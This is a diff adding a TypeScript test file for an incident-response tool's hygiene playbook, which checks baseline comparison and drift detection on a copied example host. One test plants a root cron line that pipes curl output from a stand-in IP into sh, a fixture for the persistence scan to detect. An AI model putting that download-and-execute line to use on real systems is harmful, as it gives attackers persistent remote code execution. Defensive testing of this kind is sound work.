@@ -1,0 +1,60 @@
+import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { parseJson, ROOT, runIr } from '../helpers/cli.js';
+import type { PlaybookRun } from '../../src/playbook/runner.js';
+
+/**
+ * The hygiene playbook compares with an accepted state (`--set accepted=DIR`), and with the last run
+ * until one is accepted. Runs on a copy of the bundled example (--root), so no service is needed.
+ */
+let work: string;
+let image: string;
+beforeAll(() => {
+  work = mkdtempSync(join(tmpdir(), 'ir-hyg-'));
+  image = join(work, 'host');
+  cpSync(join(ROOT, 'examples', 'compromised-host'), image, { recursive: true, verbatimSymlinks: true });
+});
+afterAll(() => rmSync(work, { recursive: true, force: true }));
+
+interface Baselined {
+  baseline?: { file: string; counts: Record<string, number> };
+}
+
+function stepJson<T>(caseDir: string, name: string): T {
+  const f = readdirSync(join(caseDir, 'steps')).find((n) => n.endsWith(`-${name}.json`))!;
+  return JSON.parse(readFileSync(join(caseDir, 'steps', f), 'utf8')) as T;
+}
+
+test('--dry-run shows the accepted baseline per host, and no baseline on a first run', async () => {
+  const withAccepted = parseJson<PlaybookRun>(await runIr(['playbook', 'run', 'hygiene', '--root', image, '--dry-run', '--json', '--set', 'accepted=/srv/accepted/{{host}}'], { cwd: work }));
+  const argv = withAccepted.hosts[0]!.steps.find((s) => s.name === 'sweep')!.argv;
+  expect(argv).toContain('--baseline=/srv/accepted/image/sweep-baseline.json');
+  const first = parseJson<PlaybookRun>(await runIr(['playbook', 'run', 'hygiene', '--root', image, '--dry-run', '--json'], { cwd: work }));
+  const sweep = first.hosts[0]!.steps.find((s) => s.name === 'sweep')!;
+  expect(sweep.argv.some((a) => a.startsWith('--baseline'))).toBe(false);
+  expect(sweep.omitted).toEqual(['baseline']);
+  expect(readdirSync(work)).toEqual(['host']); // a dry run writes nothing
+});
+
+test('a run accepted, then a planted cron job is the one new persistence finding of the next run', async () => {
+  const accepted = join(work, 'cases', 'accepted');
+  const r1 = await runIr(['playbook', 'run', 'hygiene', '--root', image, '--case', accepted, '--json'], { cwd: work, timeoutMs: 300_000 });
+  expect(r1.code).not.toBe(2);
+  expect(stepJson<Baselined>(accepted, 'persistence-scan').baseline).toBeUndefined();
+
+  writeFileSync(join(image, 'etc', 'cron.d', 'zz-planted'), '* * * * * root curl -s http://203.0.113.7/x | sh\n');
+  const second = join(work, 'cases', 'second');
+  const r2 = await runIr(['playbook', 'run', 'hygiene', '--root', image, '--case', second, '--json', '--set', `accepted=${accepted}`], { cwd: work, timeoutMs: 300_000 });
+  expect(r2.code).toBe(1);
+  const scan = stepJson<Baselined & { findings: { key: string; drift?: string }[] }>(second, 'persistence-scan');
+  expect(scan.baseline!.file).toBe(join(accepted, 'persistence-baseline.json'));
+  const fresh = scan.findings.filter((f) => f.drift === 'new');
+  expect(fresh.length).toBeGreaterThanOrEqual(1);
+  expect(fresh.every((f) => JSON.stringify(f).includes('zz-planted'))).toBe(true);
+  expect(scan.baseline!.counts.unchanged).toBeGreaterThan(0);
+  // the sweep compared with the accepted baseline too: most checks unchanged, the planted job a state change
+  const sweep = stepJson<{ drift?: { checks: { unchanged: number }; state: unknown[] } }>(second, 'sweep');
+  expect(sweep.drift!.checks.unchanged).toBeGreaterThan(10);
+  expect(JSON.stringify(sweep.drift!.state)).toContain('zz-planted');
+}, 600_000);
